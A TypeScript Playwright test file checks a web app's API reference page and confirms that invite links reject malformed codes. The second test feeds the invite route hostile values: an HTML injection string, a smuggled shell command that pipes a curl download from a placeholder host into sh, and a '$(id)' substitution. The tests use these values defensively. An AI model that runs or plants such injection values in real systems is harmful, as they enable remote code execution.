import { ApiClient, findChromium } from '@guildhall/testing';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openTestApp, type TestApp } from '../../testing/test-app.ts';

let test: TestApp;
let browser: Browser;
beforeAll(async () => {
  test = await openTestApp();
  browser = await chromium.launch({
    executablePath: findChromium() ?? '',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-sync'],
  });
});
afterAll(async () => {
  await browser.close();
  await test.close();
});

it('the reference has every operation of the document, by name, and what it takes and answers', async () => {
  const page = await browser.newPage();
  const problems: string[] = [];
  page.on('console', (message) => message.type() === 'error' && problems.push(message.text()));
  await page.goto(`${test.url}/docs/api`);
  const shown = await page.$$eval('details', (all) => all.map(({ id }) => id));
  const api = await ApiClient.open(test.url, '/api/v1/openapi.json');
  expect(shown.sort()).toEqual(api.operationIds);
  await page.click('[id="tasks.create"] summary');
  const task = await page.textContent('[id="tasks.create"]');
  for (const part of ['POST /api/v1/offices/{officeId}/tasks', 'title', 'assigned_to', '201'])
    expect(task).toContain(part);
  const targets = await page.$$eval('a[href^="#"]', (links) =>
    links.map((link) => link.getAttribute('href')?.slice(1)),
  );
  const anchors = await page.$$eval('h2', (heads) => heads.map(({ id }) => id));
  expect(targets).toEqual(anchors);
  expect(problems.filter((problem) => !problem.includes('favicon'))).toEqual([]);
});

it('an invite says how to join, whatever its code is, and nothing but a code becomes part of the command', async () => {
  const page = await browser.newPage();
  await page.goto(`${test.url}/r/ABC234`);
  expect(await page.textContent('pre')).toContain('/api/agents/join');
  await page.setViewportSize({ width: 390, height: 800 });
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
  for (const hostile of ['<b id=x>K', "';curl x.co|sh;'", '$(id)']) {
    const answer = await page.goto(`${test.url}/r/${encodeURIComponent(hostile)}`);
    expect(answer?.status(), hostile).toBe(404);
    expect(await page.$('#x')).toBeNull();
  }
  const good = await (await fetch(`${test.url}/r/ABC234`)).text();
  const bad = await (await fetch(`${test.url}/invite/ZZZ999`)).text();
  expect(good.replaceAll('ABC234', '')).toBe(bad.replaceAll('ZZZ999', ''));
});
